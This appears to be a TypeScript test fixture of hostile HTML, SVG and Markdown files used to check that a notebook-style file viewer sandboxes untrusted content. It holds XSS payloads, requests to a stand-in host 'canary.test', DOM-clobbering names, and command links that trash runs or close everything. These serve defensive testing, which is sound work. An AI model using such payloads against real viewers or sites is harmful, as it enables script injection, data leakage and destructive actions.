/** Files that attack whoever looks at them: page, storage, network, names and commands. */

/** Nobody lives here; a request to it is a leak. */
export const ORIGIN = 'http://canary.test';

/** The file that tries everything by script, and tells its parent how it went. */
export const IN_SCRIPTS = '01_scripts.html';

const ATTACK = 'window.canary = parent.canary = top.canary = 1';

export const HOSTILE: Readonly<Record<string, string>> = {
  [IN_SCRIPTS]: `<p>text</p><script>
(async () => {
  const attempts = {
    parent: () => { parent.parent.canary = 1; },
    top: () => { top.canary = 1; },
    cookie: () => { document.cookie = 'canary=1'; },
    localStorage: () => { localStorage.setItem('canary', '1'); },
    fetch: () => fetch('${ORIGIN}/fetch', { mode: 'no-cors' })
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    let outcome = 'reached';
    try { await attempt(); } catch { outcome = 'refused'; }
    top.postMessage({ hostile: name + ': ' + outcome }, '*');
  }
})();
</script>`,
  '02_handlers.html': `<img src="x" onerror="${ATTACK}"><svg onload="${ATTACK}"></svg><body onload="${ATTACK}"><details open ontoggle="${ATTACK}">`,
  '03_breakout.html': `"></iframe></body></html><script>${ATTACK}</script>&quot;&gt;<script>${ATTACK}</script>`,
  '04_frames.html': `<iframe srcdoc="<script>${ATTACK}</script>"></iframe><iframe src="${ORIGIN}/frame"></iframe><iframe src="javascript:top.canary=1"></iframe>`,
  '05_refresh.html': `<meta http-equiv="refresh" content="0;url=${ORIGIN}/refresh"><p>text</p>`,
  '06_location.html': `<script>location = '${ORIGIN}/location'</script><script>top.location = '${ORIGIN}/top'</script>`,
  '07_form.html': `<form id="f" action="${ORIGIN}/form" target="_top"><input name="a" value="1"></form><script>f.submit()</script>`,
  '08_styles.html': `<style>@import url(${ORIGIN}/import.css); body { background: url(${ORIGIN}/background.png) }</style><link rel="stylesheet" href="${ORIGIN}/link.css"><link rel="prefetch" href="${ORIGIN}/prefetch">`,
  '09_base.html': `<base href="${ORIGIN}/"><img src="base.png"><script src="base.js"></script>`,
  '10_media.html': `<img src="${ORIGIN}/a.png" srcset="${ORIGIN}/b.png 2x"><video src="${ORIGIN}/c.mp4" poster="${ORIGIN}/d.png" autoplay></video><audio src="${ORIGIN}/e.mp3" autoplay></audio><object data="${ORIGIN}/f"></object><embed src="${ORIGIN}/g">`,
  '11_window.html': `<script>window.open('${ORIGIN}/open'); navigator.sendBeacon('${ORIGIN}/beacon', 'x'); new Image().src = '${ORIGIN}/image'; new WebSocket('ws://canary.test/'); new Worker('data:text/javascript,1')</script>`,
  '12_link.html': `<a id="a" href="${ORIGIN}/link" target="_top" ping="${ORIGIN}/ping">text</a><script>a.click()</script>`,
  '13_script.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" onload="${ATTACK}"><script>${ATTACK}</script><image href="${ORIGIN}/svg.png" width="9" height="9"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${ORIGIN}/svg"/></foreignObject><rect width="40" height="20"/></svg>`,
  '14_script.md': `text\n\n<script>${ATTACK}</script>\n\n<img src="x" onerror="${ATTACK}">\n\n[link](javascript:${encodeURI(ATTACK)})\n\n<iframe srcdoc="<script>${ATTACK}</script>"></iframe>\n\n<svg><animate onbegin="${ATTACK}"/></svg>`,
  '15_loads.md': `text\n\n![picture](${ORIGIN}/markdown.png)\n\n<img src="/logout?canary">\n\n<div style="background: url(${ORIGIN}/style.png)">x</div>\n\n<video poster="${ORIGIN}/poster.png" src="${ORIGIN}/video.mp4"></video>`,
  '16_names.md': `text\n\n<form id="main" name="jupyterapp"><input name="cookie"></form>\n\n<a id="jp-main-dock-panel" name="body">x</a>\n\n<img name="getElementById">`,
  '17_commands.md': `text\n\n<a data-commandlinker-command="mlops:trash-runs" data-commandlinker-args="{}">click</a>\n\n<button data-commandlinker-command="application:close-all">click</button>`
};
